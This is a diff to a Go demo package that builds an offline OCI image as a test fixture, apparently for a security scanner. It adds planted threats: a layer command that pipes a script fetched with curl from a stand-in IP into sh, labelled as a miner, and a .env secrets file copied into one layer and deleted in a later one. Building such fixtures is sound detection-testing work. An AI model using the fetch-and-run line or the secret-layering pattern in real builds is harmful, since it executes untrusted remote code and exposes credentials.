@@ -1,5 +1,5 @@
 // Package demo writes a small OCI layout to look at and to test with: an old
-// Debian, a nested vulnerable jar and a Go binary. It needs no network: the
+// Debian, a nested vulnerable jar, a Go binary, and one threat of each kind. It needs no network: the
 // packages are database entries, the jars hold only what names them, and the
 // binary is compiled from the source below.
 package demo
@@ -33,6 +33,10 @@ func Write(dir string) error {
 		{"COPY target/shop.war /usr/local/tomcat/webapps/ # buildkit", webApplication},
 		{"COPY --from=build /out/gateway /usr/local/bin/gateway # buildkit", gateway},
 		{"COPY node_modules /srv/front/node_modules # buildkit", frontEnd},
+		{"COPY html /var/www/html # buildkit", website},
+		{"RUN /bin/sh -c curl -fsSL http://203.0.113.7/tuning.sh | sh # buildkit", miner},
+		{"COPY .env /srv/front/.env # buildkit", settings},
+		{"RUN /bin/sh -c rm /srv/front/.env # buildkit", withoutSettings},
 	})
 	if err != nil {
 		return err
